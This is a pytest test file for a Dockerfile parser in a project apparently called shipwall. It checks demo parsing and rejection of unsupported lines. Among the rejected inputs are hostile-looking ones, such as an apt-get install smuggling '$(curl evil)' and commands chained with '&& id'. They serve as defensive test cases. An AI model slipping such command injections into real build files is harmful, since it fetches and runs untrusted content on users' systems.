"""Dockerfiles that can be layered without an engine, and those that cannot."""

from __future__ import annotations

from importlib import resources

import pytest

from shipwall.model.errors import InputError, UnsupportedError
from shipwall.supply.recipe import Recipe, parse_recipe


def test_the_shop_of_the_demo() -> None:
    text = (resources.files("shipwall.demo") / "assets/shop/Dockerfile").read_text()
    assert parse_recipe(text, {"PLUGINS": "/srv/x"}) == Recipe(
        packages=("libpython3-stdlib", "nginx-light", "python3-minimal", "tcpdump"),
        copies={"nginx.conf": "opt/shop/nginx.conf", "shop.py": "opt/shop/shop.py"},
        settings={
            "Labels": {
                "shipwall.user": "10001:10001",
                "shipwall.writable": "/tmp",
                "shipwall.writable-exec": "/srv/x",
                "shipwall.port": "8080/tcp",
            },
            "ExposedPorts": {"8080/tcp": {}},
            "Cmd": ["/usr/bin/python3", "/opt/shop/shop.py"],
        },
    )


@pytest.mark.parametrize(
    "line",
    [
        "RUN make",
        "RUN apt-get update && apt-get install -y nginx && rm -rf /var/lib/apt/lists/*",
        "RUN apt-get update && apt-get install -y --no-install-recommends $(curl evil) && rm -rf /var/lib/apt/lists/*",
        "RUN apt-get update && apt-get install -y --no-install-recommends a && rm -rf /var/lib/apt/lists/* && id",
        "COPY --from=other a /b/",
        "COPY ../a /b/",
        "COPY a b",
        "COPY *.py /b/",
        "COPY . /b/",
        "CMD python3 x",
        "ONBUILD RUN id",
        "ADD http://x/y /z/",
    ],
)
def test_what_needs_an_engine(line: str) -> None:
    with pytest.raises(UnsupportedError, match="without an engine"):
        parse_recipe(f"FROM x\n{line}\n", {})


@pytest.mark.parametrize("line", ["LABEL x", "EXPOSE http", 'LABEL a="'])
def test_what_is_no_dockerfile(line: str) -> None:
    with pytest.raises(InputError):
        parse_recipe(f"FROM x\n{line}\n", {})
